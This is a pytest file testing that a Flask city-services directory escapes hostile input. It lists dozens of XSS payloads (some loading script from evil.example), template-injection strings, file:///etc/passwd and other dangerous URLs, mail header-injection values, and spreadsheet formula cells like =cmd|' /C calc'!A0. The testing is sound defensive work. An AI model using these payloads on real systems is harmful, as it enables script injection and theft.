"""Hostile text in every field, question and filter value: every output shows it as text and does nothing."""

import csv
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from finder.app import create_app
from finder.catalog.reading import Reader
from finder.catalog.vocabularies import load_vocabularies
from finder.config import Config
from finder.filters import FILTERS
from finder.importers.lists import import_list
from finder.index import prepare_index
from finder.index.indexer import rebuild_index
from finder.model import City, Contact, District, Office, Run, Source, Text
from finder.security import safe_url
from finder.store import Store
from tests.catalog.conftest import ADVICE, TREE
from tests.conftest import MOMENT
from tests.safety import assert_harmless, assert_protected
from tests.store.conftest import TODAY, a_catalog, a_location, an_offer, an_organization

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<b>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>", "<math><mtext></form><form>",
    "<template><script>alert(1)</script></template>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "\" style=\"color:red",
    "\"autofocus/onfocus=\"alert(1)", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>", "--><script>alert(1)</script>", "<!--<script>alert(1)",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)",
    "{{ 7*7 }}{% import os %}", "{{ config }}", "${7*7}", "#{7*7}", "%(num)s%(city)s%s%n", "{0}{1.__class__}",
    "javascript:alert(1)", "<bdi onclick=alert(1)>", "<p lang=en dir=rtl onclick=alert(1)>",
    "\u202e<script>alert(1)</script>", "<scr\0ipt>alert(1)</script>", "<a\u00a0href=javascript:alert(1)>",
    "＜script＞alert(1)＜/script＞", "<x onclick=alert(1)>", "javascript&colon;alert(1)",
)
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "file:///etc/passwd", "//evil.example", "/\\evil.example",
    "ftp://evil.example", "https:", "http://", "javascript://example.org/%0aalert(1)",
    "https://example.org/\"onclick=\"alert(1)", "https://example.org/<script>", "blob:https://example.org/x",
    "intent://x#Intent;end",
)


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


# --- stored text -----------------------------------------------------------------------------------------------------


def a_hostile_catalog() -> Any:
    """A city in which every text is hostile: one offer, house, organization and district for each payload."""
    offers, houses, organizations, districts = [], [], [], []
    for number, bad in enumerate(PAYLOADS):
        houses.append(a_location(
            f"house-{number}", name=bad, street=bad, postcode=bad, town=bad, stop=bad, also=(bad,),
            note={"de": bad, "en": bad}, lat=54.4, lon=7.4, district=f"d{number}", source=Source(bad, TODAY, bad, bad),
        ))
        contact = Contact("office", phone=bad, email=bad, url=bad)
        organizations.append(an_organization(
            f"runner-{number}", name=bad, also=(bad,), note={"de": bad, "ar": bad}, contacts=(contact,),
            places=(houses[-1].id,), source=Source(bad, TODAY, bad, bad),
            office=Office(districts=(f"d{number}", "nord")) if number % 3 == 0 else None,
        ))
        german = Text("de", f"{bad} {number}", bad, f"{bad}\n\n{bad}\n{bad}")
        texts = {"de": german, "ar": replace(german, language="ar", source_version=1)}
        offers.append(an_offer(
            f"offer-{number}", organization=organizations[-1].id, places=(houses[-1].id,), texts=texts,
            contacts=(contact,), source=Source(bad, TODAY, bad, bad), sensitive=number % 5 == 0,
            runs=(Run(TODAY),) if number % 2 else (),
            serves=(f"d{number}",),
        ))
        districts.append(District(f"d{number}", bad, "stadt", also=(bad,), names={"ar": bad}, number=bad, lat=54.4,
                                  lon=7.4, note={"de": bad}))
    everything = "\n".join(PAYLOADS)
    by_language = {"de": everything, "ar": everything}
    city = City("teststadt", everything, names=by_language, operator=by_language, imprint=by_language,
                privacy=by_language, contact=by_language, url="javascript:alert(1)", accent="red;}*{", fictional=True)
    base = a_catalog()
    return replace(base, city=city, districts=(*base.districts, *districts), organizations=tuple(organizations),
                   locations=tuple(houses), offers=tuple(offers))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    """The finder of that city; its records went past every check, as those of a wrong one would."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("FINDER_NOW", MOMENT)
        instance = tmp_path_factory.mktemp("hostile")
        Store.create(instance, a_hostile_catalog()).close()
        prepare_index(instance)
        yield create_app(Config(instance))


def pages(app: Flask) -> Iterator[str]:
    """The addresses of everything that shows stored text."""
    with app.app_context():
        store = app.extensions["site"].store
        offers = [one.offer.code for one in store.listings()]
        runners = [one.code for one in store.organizations()]
    for tag in ("de", "ar"):
        yield from (f"/{tag}/o/{code}?near=d1" for code in offers)
        yield from (f"/{tag}/org/{code}" for code in runners)
    yield from (f"/de/d/d{number}" for number in range(len(PAYLOADS)))
    for tag in ("de", "ar", "en"):
        yield from (f"/{tag}{path}" for path in (
            "/", "/search", "/search?page=2", "/search?sort=near&near=d3", "/search?district=d7", "/districts",
            "/categories", "/c/counselling", "/nowhere", "/about/imprint", "/about/privacy", "/about/contact",
            "/about/languages",
            "/search?q=alert", "/search?q=xqzw", "/d/stadt",
        ))
    yield from ("/style.css", "/hsds/", "/hsds/services?per_page=100")


def test_no_stored_text_ever_acts(hostile: Flask, demo_moment: None) -> None:
    client = hostile.test_client(use_cookies=False)
    seen = ""
    for address in pages(hostile):
        answer = client.get(address)
        assert answer.status_code == (404 if "nowhere" in address else 200), address
        assert_protected(answer)
        if address.startswith("/de/o/"):
            assert_harmless(answer.text, as_a_browser=True)
        seen += answer.text if answer.mimetype == "text/html" else ""
    assert seen.count("&lt;script&gt;alert(1)") > 100  # it was there to be escaped
    assert "49" not in re.findall(r"\{\{ 7\*7 \}\}|>49<", seen)


def test_stored_text_goes_out_in_json_as_it_is(hostile: Flask, demo_moment: None) -> None:
    client = hostile.test_client(use_cookies=False)
    found: dict[str, Any] = {}
    for page in (1, 2):
        answer = client.get(f"/hsds/services?per_page=100&page={page}")
        assert answer.headers["Content-Type"] == "application/json"
        found |= {one["name"]: one for one in json.loads(answer.data)["contents"]}
    assert {f"{bad} {number}" for number, bad in enumerate(PAYLOADS)} <= found.keys()


# --- what visitors send ----------------------------------------------------------------------------------------------


def test_no_question_ever_acts(demo: FlaskClient) -> None:
    shown = 0
    for number, bad in enumerate(PAYLOADS):
        if number % 3:
            answer = demo.get("/de/search", query_string={"q": bad})
        else:
            answer = demo.post("/ar/search", data={"q": bad, "papers": "none"})
        assert answer.status_code == 200
        assert_protected(answer)
        shown += "alert(1)" in answer.text
        answer = demo.get("/hsds/services", query_string={"search": bad, "lang": bad})
        assert answer.mimetype == "application/json"
    assert shown > 40


def test_no_filter_value_ever_acts(demo: FlaskClient) -> None:
    names = [*FILTERS, "sort", "near", "page", "v", "<script>alert(1)</script>", "\" onclick=\"x"]
    for number, bad in enumerate(PAYLOADS):
        query = dict.fromkeys(names, bad)
        if number % 2:
            assert_protected(demo.get("/de/search", query_string=query))
            assert_protected(demo.get("/en/", query_string=query))
        else:
            assert_protected(demo.post("/ar/search", data=query | {"papers": "none"}))
        if number % 4 == 0:
            for path in ("/de/o/", "/de/d/", "/de/c/", "/de/org/", "/de/about/", "/hsds/services/", "/"):
                answer = demo.get(path + bad.replace("/", "").replace("?", "").replace("#", ""))
                assert answer.status_code in (400, 404, 308)
                assert_protected(answer)


# --- addresses of contacts -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_address_of_another_kind_becomes_a_link(address: str) -> None:
    plain = {"id": "kurs", "organization": "rat", "categories": ["german-course"], "texts": {"de": {"title": "x"}},
             "contacts": [{"url": address}]}
    reader = Reader.of(load_vocabularies(), City("probe", "Probe"), TREE, {"rat": ADVICE})
    offer, problems = reader.read_offer(plain)
    assert offer is None or offer.contacts[0].url.lower().startswith(("http://", "https://")), problems
    assert safe_url(address) == "" or safe_url(address).lower().startswith(("http://", "https://"))


@pytest.mark.parametrize("mail", [
    "a@example.org?bcc=all@example.org", "a?subject=x@example.org", "a&b=c@example.org", "a%0abcc@example.org",
    "\"a b\"@example.org", "a@example.org,b@example.org", "<a@example.org>", "javascript:a@example.org",
    "a@example.org\nBcc: b@example.org",
])
def test_a_mail_address_is_nothing_more(mail: str) -> None:
    plain = {"id": "kurs", "organization": "rat", "categories": ["german-course"], "texts": {"de": {"title": "x"}},
             "contacts": [{"email": mail}]}
    assert Reader.of(load_vocabularies(), City("probe", "Probe"), TREE, {"rat": ADVICE}).read_offer(plain)[0] is None


# --- imported lists --------------------------------------------------------------------------------------------------

MAPPING = """\
source: {name: Liste}
key: [id]
fields: {title: titel, description: text, organization: wer, street: strasse, place: ort, phone: tel, website: web,
         cost: preis, ages: alter, opening: zeiten, address: adresse}
constants: {category: [social-advice]}
"""
COLUMNS = ("titel", "text", "wer", "strasse", "ort", "tel", "web", "preis", "alter", "zeiten", "adresse")
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "=HYPERLINK(\"https://evil.example\")", "\t=1", "\r=1")


def test_imported_cells_are_text_and_never_act(tmp_path: Path, demo_moment: None) -> None:
    cells = [*PAYLOADS, *FORMULAS]
    with (tmp_path / "liste.csv").open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream, delimiter=";")
        writer.writerow(["id", *COLUMNS])
        for number, bad in enumerate(cells):
            writer.writerow([str(number), f"T{number} {bad}", *([bad] * (len(COLUMNS) - 1))])
    (tmp_path / "mapping.yaml").write_text(MAPPING)
    instance = tmp_path / "instance"
    with Store.create(instance, a_catalog()) as store:
        report = import_list(store, tmp_path / "liste.csv", tmp_path / "mapping.yaml", load_vocabularies())
        assert report.stored, list(report.lines())
        listings = store.listings()
        assert len(listings) == len(cells)
    rebuild_index(instance)
    client = create_app(Config(instance)).test_client(use_cookies=False)
    seen = ""
    for listing in listings:
        for address in (f"/de/o/{listing.offer.code}", f"/ar/org/{listing.organization.code}"):
            answer = client.get(address)
            assert_protected(answer)
            seen += answer.text
    for page in range(1, 5):
        assert_protected(client.get(f"/de/search?page={page}"))
    assert "=cmd|" in seen  # a formula is shown as what was written; it is for the export to a sheet to disarm it


# --- the check itself ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("bad", [one for one in PAYLOADS if re.match("<.*=", one) and "input" not in one][:20])
def test_the_check_sees_what_acts(bad: str) -> None:
    page = "<!doctype html><title>x</title><body>{}</body>"
    assert_harmless(page.format("<a href='/de/'>x</a>"))
    with pytest.raises(AssertionError):
        assert_harmless(page.format(bad))
    with pytest.raises(AssertionError):
        assert_harmless(page.format(bad), as_a_browser=True)
